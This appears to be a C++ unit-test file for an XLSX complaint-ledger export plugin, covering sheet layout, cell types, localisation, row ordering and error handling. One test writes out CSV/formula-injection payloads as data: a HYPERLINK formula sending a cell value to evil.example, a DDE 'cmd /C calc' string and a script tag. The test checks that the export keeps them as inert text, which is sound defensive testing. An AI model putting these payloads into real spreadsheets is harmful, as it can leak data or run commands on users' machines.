// XLSX end to end: case files in through LedgerExport, the workbook read back
// with openpyxl (read_back.py), checking values AND their types.
#include <gtest/gtest.h>
#include <qloop/plugin.hpp>

#include "ledger_export.hpp"
#include "test_support.hpp"
#include "text_rules.hpp"

using namespace qloop::ledger;
using namespace ledger_test;

namespace {

json export_xlsx(const std::vector<json> &cases, const std::filesystem::path &out, Lang lang = Lang::En,
                 XlsxOptions options = {}, std::size_t batch = 2, json filters = json::object()) {
  Settings s = settings_for(Format::Xlsx, out, lang);
  s.filters = std::move(filters);
  LedgerExport e(s, options);
  for (std::size_t i = 0; i < cases.size(); i += batch) {
    json arr = json::array();
    for (std::size_t j = i; j < cases.size() && j < i + batch; ++j) arr.push_back(cases[j]);
    e.write_batch(arr.dump());
  }
  return e.finish();
}

const json &sheet(const json &book, const std::string &name) {
  for (const auto &s : book["sheets"])
    if (s["name"] == name) return s;
  throw std::out_of_range("no sheet " + name);
}

// The cell under `heading` in data row `row` (1 = first data row).
json cell(const json &s, std::size_t row, const std::string &heading) {
  const auto &header = s["rows"][0];
  for (std::size_t c = 0; c < header.size(); ++c)
    if (!header[c].is_null() && header[c]["v"] == heading) return s["rows"][row][c];
  throw std::out_of_range("no column " + heading);
}

} // namespace

TEST(Xlsx, SheetsHeadingsPanesFiltersAndWidths) {
  const auto dir = temp_dir();
  const auto out = dir / "ledger.xlsx";
  const json summary = export_xlsx({sample_case(), bare_case("QC-2"), sample_case()}, out);
  EXPECT_FALSE(std::filesystem::exists(out.string() + ".part"));
  const json book = read_back("xlsx", out);
  std::vector<std::string> names;
  for (const auto &s : book["sheets"]) names.push_back(s["name"]);
  EXPECT_EQ(names, (std::vector<std::string>{"Complaints", "Actions", "8D summary", "Export"}));
  EXPECT_EQ(summary["sheets"], json(names));

  const json &c = sheet(book, "Complaints");
  EXPECT_EQ(c["freeze_panes"], "A2");
  EXPECT_EQ(c["auto_filter"], "A1:R4"); // 18 columns, heading + 3 rows
  EXPECT_EQ(c["rows"].size(), 4u);
  EXPECT_EQ(c["rows"][0][0]["v"], "Complaint no.");
  EXPECT_EQ(c["rows"][0][1]["v"], "Received (UTC)");
  for (bool bold : c["header_bold"]) EXPECT_TRUE(bold);
  EXPECT_GE(c["widths"]["O"].get<double>(), 50.0); // phenomenon
  EXPECT_GE(c["widths"]["A"].get<double>(), 16.0);

  const json &a = sheet(book, "Actions");
  EXPECT_EQ(a["freeze_panes"], "A2");
  EXPECT_EQ(a["auto_filter"], "A1:L5"); // 2 + 0 + 2 actions
  const json &d = sheet(book, "8D summary");
  EXPECT_EQ(d["auto_filter"], "A1:O3"); // the bare case has no 8D
  EXPECT_EQ(summary["rows"], (json{{"complaints", 3}, {"actions", 4}, {"eight_d", 2}}));
  EXPECT_EQ(summary["complaints"], 3);
  EXPECT_EQ(summary["actions"], 4);
  EXPECT_EQ(book["formula_elements"], 0);
}

TEST(Xlsx, RealDatesNumbersAndBooleans) {
  const auto out = temp_dir() / "typed.xlsx";
  json c = sample_case();
  c["complaint"]["key_complaint"] = true;
  c["complaint"]["quantity_affected"] = 250;
  export_xlsx({c}, out);
  const json s = sheet(read_back("xlsx", out), "Complaints");
  const json received = cell(s, 1, "Received (UTC)");
  EXPECT_EQ(received["t"], "d");
  EXPECT_EQ(received["v"], "2025-11-25T18:01:27");
  EXPECT_EQ(received["fmt"], "yyyy-mm-dd hh:mm");
  EXPECT_EQ(cell(s, 1, "Closed (UTC)")["t"], "d");
  EXPECT_EQ(cell(s, 1, "Qty affected"), (json{{"t", "n"}, {"v", 250}, {"fmt", "General"}}));
  const json days = cell(s, 1, "Cycle (days)");
  EXPECT_EQ(days["t"], "n");
  EXPECT_NEAR(days["v"].get<double>(), (1765157315.0 - 1764093687.0) / 86400, 1e-9);
  EXPECT_EQ(days["fmt"], "0.00");
  EXPECT_EQ(cell(s, 1, "Key complaint"), (json{{"t", "b"}, {"v", true}}));
  EXPECT_EQ(cell(s, 1, "Severity"), (json{{"t", "s"}, {"v", "minor"}}));

  const json a = sheet(read_back("xlsx", out), "Actions");
  EXPECT_EQ(cell(a, 1, "Action ID")["t"], "n");
  EXPECT_EQ(cell(a, 1, "Due (UTC)")["t"], "d");
  EXPECT_EQ(cell(a, 1, "Verified at (UTC)")["v"], "2025-11-30T13:28:35");
}

TEST(Xlsx, HostileTextStaysText) {
  const auto out = temp_dir() / "hostile.xlsx";
  const json summary = export_xlsx({hostile_case(), bare_case("QC-3")}, out);
  const json book = read_back("xlsx", out);
  EXPECT_EQ(book["formula_elements"], 0);
  const json &s = sheet(book, "Complaints");
  const json number = cell(s, 1, "Complaint no.");
  EXPECT_EQ(number["t"], "s");
  EXPECT_EQ(number["v"], "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
  EXPECT_EQ(cell(s, 1, "Customer"), (json{{"t", "s"}, {"v", "<script>alert('x')</script>"}}));
  EXPECT_EQ(cell(s, 1, "Product model")["v"], "+cmd|' /C calc'!A0");
  EXPECT_EQ(cell(s, 1, "Lot"), (json{{"t", "s"}, {"v", "-2+3"}}));
  EXPECT_EQ(cell(s, 1, "Order no.")["v"], "@SUM(1,2)");
  EXPECT_EQ(cell(s, 1, "Owner")["v"], "张伟");
  EXPECT_EQ(cell(s, 1, "Subcategory")["v"], "bell and nul-free text\nnext");
  const std::string phenomenon = cell(s, 1, "Phenomenon")["v"];
  std::size_t chars = 0; // all BMP here, so characters = UTF-16 units
  for (unsigned char b : phenomenon) chars += (b & 0xC0) != 0x80;
  EXPECT_EQ(chars, kXlsxCellLimit);
  const std::string marker = " …[truncated]";
  EXPECT_EQ(phenomenon.substr(phenomenon.size() - marker.size()), marker);
  EXPECT_EQ(phenomenon.find_first_not_of('x'), phenomenon.size() - marker.size());
  EXPECT_EQ(summary["truncated_cells"], 1);
  // The missing-fields case: its cells are empty, not "null" or 0.
  EXPECT_TRUE(cell(s, 2, "Customer").is_null());
  EXPECT_TRUE(cell(s, 2, "Qty affected").is_null());
  EXPECT_TRUE(cell(s, 2, "Key complaint").is_null());

  const json &a = sheet(book, "Actions");
  EXPECT_EQ(cell(a, 1, "Description"), (json{{"t", "s"}, {"v", "=1+2"}}));
  EXPECT_EQ(cell(a, 1, "Evidence")["v"], "逗号, \"引号\" and\nnewline");
  EXPECT_EQ(cell(a, 2, "Owner")["v"], "\tleading tab");
  EXPECT_EQ(cell(a, 2, "Evidence")["v"], "_x0041_ is not an A"); // as Excel decodes it
}

TEST(Xlsx, ChineseLabelsAndTimeZone) {
  const auto out = temp_dir() / "zh.xlsx";
  json c = sample_case();
  c["complaint"]["severity"] = "critical";
  Settings s = settings_for(Format::Xlsx, out, Lang::ZhCN);
  s.utc_offset_minutes = 480;
  s.filters = {{"customer", "北方重工机械"}, {"from", "2025-01-01"}};
  LedgerExport e(s);
  e.write_batch(json::array({c}).dump());
  const json summary = e.finish();
  const json book = read_back("xlsx", out);
  std::vector<std::string> names;
  for (const auto &sh : book["sheets"]) names.push_back(sh["name"]);
  EXPECT_EQ(names, (std::vector<std::string>{"客诉台账", "措施", "8D 摘要", "导出信息"}));
  const json &ledger = sheet(book, "客诉台账");
  EXPECT_EQ(cell(ledger, 1, "严重度")["v"], "紧急");
  EXPECT_EQ(cell(ledger, 1, "受理时间 (UTC+08:00)")["v"], "2025-11-26T02:01:27");
  EXPECT_GE(ledger["widths"]["Q"].get<double>(), 14.0); // "处理周期(天)": wide characters count double

  const json &info = sheet(book, "导出信息");
  std::map<std::string, json> items;
  for (std::size_t r = 1; r < info["rows"].size(); ++r) items[info["rows"][r][0]["v"]] = info["rows"][r][1];
  EXPECT_EQ(items["筛选条件: customer"]["v"], "北方重工机械");
  EXPECT_EQ(items["筛选条件: from"]["v"], "2025-01-01");
  EXPECT_EQ(items["客诉数"], (json{{"t", "n"}, {"v", 1}, {"fmt", "General"}}));
  EXPECT_EQ(items["导出时间"]["t"], "d");
  EXPECT_EQ(items["时间显示时区"]["v"], "UTC+08:00");
  EXPECT_EQ(summary["filters"]["customer"], "北方重工机械");
}

// Rows go out interleaved over three sheets (constant-memory mode keeps one
// row per sheet); each sheet must still hold its own rows in order.
TEST(Xlsx, InterleavedSheetsKeepTheirOrder) {
  const auto out = temp_dir() / "order.xlsx";
  std::vector<json> cases;
  for (int i = 0; i < 60; ++i) {
    json c = sample_case();
    c["complaint"]["number"] = "QC-" + std::to_string(i);
    c["actions"][0]["id"] = 2 * i;
    c["actions"][1]["id"] = 2 * i + 1;
    if (i % 3 == 0) c.erase("eight_d");
    cases.push_back(c);
  }
  export_xlsx(cases, out, Lang::En, {}, 7);
  const json book = read_back("xlsx", out);
  const json &c = sheet(book, "Complaints");
  const json &a = sheet(book, "Actions");
  const json &d = sheet(book, "8D summary");
  ASSERT_EQ(c["rows"].size(), 61u);
  ASSERT_EQ(a["rows"].size(), 121u);
  ASSERT_EQ(d["rows"].size(), 41u);
  for (int i = 0; i < 60; ++i) {
    EXPECT_EQ(c["rows"][i + 1][0]["v"], "QC-" + std::to_string(i));
    EXPECT_EQ(a["rows"][2 * i + 1][0]["v"], "QC-" + std::to_string(i));
    EXPECT_EQ(a["rows"][2 * i + 2][1]["v"], 2 * i + 1);
  }
  int row = 1;
  for (int i = 0; i < 60; ++i) {
    if (i % 3 != 0) {
      EXPECT_EQ(d["rows"][row++][0]["v"], "QC-" + std::to_string(i));
    }
  }
}

// A sheet that reaches Excel's row limit continues on "Actions (2)"; the limit
// is lowered here so the test stays small.
TEST(Xlsx, FullSheetsContinueOnANewSheet) {
  const auto out = temp_dir() / "rollover.xlsx";
  std::vector<json> cases;
  for (int i = 0; i < 5; ++i) {
    json c = sample_case();
    c["complaint"]["number"] = "QC-" + std::to_string(i);
    cases.push_back(c);
  }
  XlsxOptions small;
  small.max_rows = 4; // heading + 3 rows
  const json summary = export_xlsx(cases, out, Lang::En, small);
  const json book = read_back("xlsx", out);
  std::vector<std::string> names;
  for (const auto &s : book["sheets"]) names.push_back(s["name"]);
  EXPECT_EQ(names,
            (std::vector<std::string>{"Complaints", "Actions", "8D summary", "Export", "Actions (2)",
                                      "Complaints (2)", "Actions (3)", "8D summary (2)", "Actions (4)"}));
  EXPECT_EQ(sheet(book, "Complaints")["auto_filter"], "A1:R4");
  EXPECT_EQ(sheet(book, "Complaints (2)")["auto_filter"], "A1:R3");
  EXPECT_EQ(sheet(book, "Complaints (2)")["freeze_panes"], "A2");
  EXPECT_EQ(sheet(book, "Complaints (2)")["rows"][2][0]["v"], "QC-4");
  EXPECT_EQ(sheet(book, "Actions (4)")["rows"].size(), 2u); // 10 actions: 3 + 3 + 3 + 1
  EXPECT_EQ(summary["rows"]["actions"], 10);
}

TEST(Xlsx, AbandonedExportLeavesNoFile) {
  const auto out = temp_dir() / "abandoned.xlsx";
  {
    LedgerExport e(settings_for(Format::Xlsx, out));
    e.write_batch(json::array({sample_case()}).dump());
    EXPECT_TRUE(std::filesystem::exists(out.string() + ".part"));
  }
  EXPECT_FALSE(std::filesystem::exists(out));
  EXPECT_FALSE(std::filesystem::exists(out.string() + ".part"));
  std::size_t left = 0;
  for ([[maybe_unused]] const auto &entry : std::filesystem::directory_iterator(out.parent_path())) ++left;
  EXPECT_EQ(left, 0u); // no temp files either
}

TEST(Xlsx, EmptyLedgerIsAValidWorkbook) {
  const auto out = temp_dir() / "empty.xlsx";
  const json summary = export_xlsx({}, out);
  EXPECT_EQ(summary["complaints"], 0);
  const json book = read_back("xlsx", out);
  EXPECT_EQ(sheet(book, "Complaints")["rows"].size(), 1u);
  EXPECT_EQ(sheet(book, "Complaints")["auto_filter"], "A1:R1");
}

TEST(Xlsx, UnwritableOutputFailsAtTheStart) {
  const auto dir = temp_dir();
  try {
    LedgerExport e(settings_for(Format::Xlsx, dir / "no-such-folder" / "l.xlsx"));
    FAIL() << "no error";
  } catch (const qloop::sdk::Error &err) {
    EXPECT_EQ(err.status(), QLOOP_ERR_IO);
    EXPECT_NE(std::string(err.what()).find("no-such-folder"), std::string::npos);
  }
}
